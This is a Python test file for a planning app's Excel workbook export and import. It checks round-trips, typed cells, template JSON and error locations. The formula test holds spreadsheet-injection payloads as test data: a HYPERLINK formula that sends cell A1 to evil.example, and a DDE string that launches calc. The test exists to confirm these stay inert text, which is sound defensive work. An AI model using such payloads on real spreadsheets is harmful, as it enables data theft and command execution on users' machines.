"""The whole company as one workbook (#19 item 5): export -> import into an empty
database -> export gives the same workbook content, on both databases; cells are typed,
never formulas, and user text starting with ``=`` stays text."""

from __future__ import annotations

import json
import zipfile
from datetime import datetime
from pathlib import Path

import pytest
from _bundles import write_bundle
from openpyxl import load_workbook
from sqlalchemy import Engine

from pegboard import db
from pegboard.bundle import schema
from pegboard.bundle.importer import read_bundle
from pegboard.bundle.upload import export_workbook
from pegboard.bundle.workbook import write_workbook
from pegboard.demo import demo_path
from pegboard.errors import BundleError
from pegboard.services.company_data import read_company, replace_company

Content = dict[str, list[tuple[object, ...]]]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def content(path: Path) -> Content:
    """Every sheet's cell values (typed, as openpyxl reads them), formulas included."""
    book = load_workbook(path, data_only=False)
    try:
        return {
            sheet.title: [tuple(row) for row in sheet.iter_rows(values_only=True)]
            for sheet in book.worksheets
        }
    finally:
        book.close()


def through_database(engine: Engine, book: Path, out: Path) -> Path:
    """Import ``book`` into the (emptied) database and export it again to ``out``."""
    data = read_bundle(book)
    with db.session_scope(engine) as session:
        replace_company(session, data, author="workbook")
    with db.session_scope(engine) as session:
        exported = export_workbook(session, out)
    exported.remove()
    assert out.exists()
    return out


def test_the_sample_company_round_trips_through_a_workbook(engine: Engine, tmp_path: Path) -> None:
    folder_data = read_bundle(demo_path("lighting"))
    assert folder_data.templates, "the sample has templates: the workbook must carry them"
    with db.session_scope(engine) as session:
        replace_company(session, folder_data, author="sample")
    with db.session_scope(engine) as session, session.begin():
        stored = read_company(session)
    with db.session_scope(engine) as session:
        first = export_workbook(session, tmp_path / "first.xlsx")
    first.remove()
    assert first.counts["items"] == len(folder_data.items)
    assert first.counts[schema.TEMPLATES_SHEET] == len(folder_data.templates)

    second = through_database(engine, first.path, tmp_path / "second.xlsx")
    a, b = content(first.path), content(second)
    assert a == b
    assert list(a) == [spec.name for spec in schema.INPUT_FILES] + [schema.TEMPLATES_SHEET]
    # the workbook holds what the company held: the same dataset once read back
    assert read_bundle(second).canonical() == stored.canonical()
    with db.session_scope(engine) as session, session.begin():
        assert read_company(session).canonical() == stored.canonical()


def test_cells_are_typed_and_never_formulas(engine: Engine, tmp_path: Path) -> None:
    bundle = write_bundle(
        tmp_path / "in",
        {
            "settings": "key,value\nplanning_date,2026-01-05\n",
            "items": (
                "item,description,type,lot_rule,lot_qty,unit_cost,supplier,uom\n"
                f'GEAR,"{HOSTILE.replace(chr(34), chr(34) * 2)}",make,foq,0.1,1249.9,,kg\n'
                "NUT,=1+1,buy,,,0.1234,@SUM(A1),ea\n"
            ),
            "bom": "parent,component,qty_per\nGEAR,NUT,3\n",
            "sales_orders": (
                "sales_order,line,customer,item,qty,due_date\nSO-1,1,+cmd|' -C calc'!A0,GEAR,2,"
                "2026-04-01\n"
            ),
        },
    )
    with db.session_scope(engine) as session:
        replace_company(session, read_bundle(bundle), author="hostile")
    with db.session_scope(engine) as session:
        book = export_workbook(session, tmp_path / "out.xlsx")
    book.remove()
    with zipfile.ZipFile(book.path) as zf:
        xml = "".join(zf.read(n).decode("utf-8") for n in zf.namelist() if n.endswith(".xml"))
    assert "<f>" not in xml and "<f " not in xml, "a formula was written"

    sheets = content(book.path)
    items = {row[0]: row for row in sheets["items"][1:]}
    header = sheets["items"][0]
    gear, nut = items["GEAR"], items["NUT"]
    assert gear[header.index("description")] == HOSTILE
    assert nut[header.index("description")] == "=1+1"
    assert nut[header.index("supplier")] == "@SUM(A1)"
    assert gear[header.index("lot_qty")] == 0.1
    assert gear[header.index("unit_cost")] == 1249.9
    assert nut[header.index("unit_cost")] == 0.1234
    assert isinstance(gear[header.index("lead_time_days")], int)
    sales = sheets["sales_orders"]
    line = dict(zip(sales[0], sales[1], strict=True))
    assert line["customer"] == "+cmd|' -C calc'!A0"
    assert line["due_date"] == datetime(2026, 4, 1)  # a date cell

    # and it reads back the same, hostile text included
    again = through_database(engine, book.path, tmp_path / "again.xlsx")
    assert content(again) == sheets


def test_money_cells_show_their_decimals(tmp_path: Path) -> None:
    data = read_bundle(demo_path("lighting"))
    path = tmp_path / "book.xlsx"
    write_workbook(data, path)
    book = load_workbook(path)
    sheet = book["items"]
    header = [c.value for c in sheet[1]]
    cost = sheet.cell(row=2, column=header.index("unit_cost") + 1)
    assert isinstance(cost.value, int | float)
    assert cost.number_format.startswith("0")
    book.close()


def test_a_bad_template_cell_is_located(tmp_path: Path) -> None:
    data = read_bundle(demo_path("lighting"))
    path = tmp_path / "book.xlsx"
    write_workbook(data, path)
    book = load_workbook(path)
    sheet = book[schema.TEMPLATES_SHEET]
    sheet.cell(row=2, column=2).value = '{"item": '
    book.save(path)
    with pytest.raises(BundleError) as caught:
        read_bundle(path)
    [problem] = caught.value.problems
    assert problem.file == "book.xlsx[templates]"
    assert (problem.line, problem.column) == (2, "definition")
    assert "not valid JSON" in problem.reason


def test_a_template_is_one_cell_of_json(tmp_path: Path) -> None:
    data = read_bundle(demo_path("lighting"))
    path = tmp_path / "book.xlsx"
    write_workbook(data, path)
    rows = content(path)[schema.TEMPLATES_SHEET]
    assert rows[0] == ("item", "definition")
    assert [json.loads(str(r[1])) for r in rows[1:]] == data.templates


def test_a_control_character_is_refused_with_its_place(tmp_path: Path) -> None:
    """A workbook cannot hold \\x1c: the export names where it is instead of dropping it."""
    from pegboard.errors import ValidationError

    data = read_bundle(demo_path("lighting"))
    data.items[1] = data.items[1]._replace(description="bad\x1ctext")
    with pytest.raises(ValidationError) as caught:
        write_workbook(data, tmp_path / "book.xlsx")
    assert "sheet items, row 3, column description" in caught.value.message
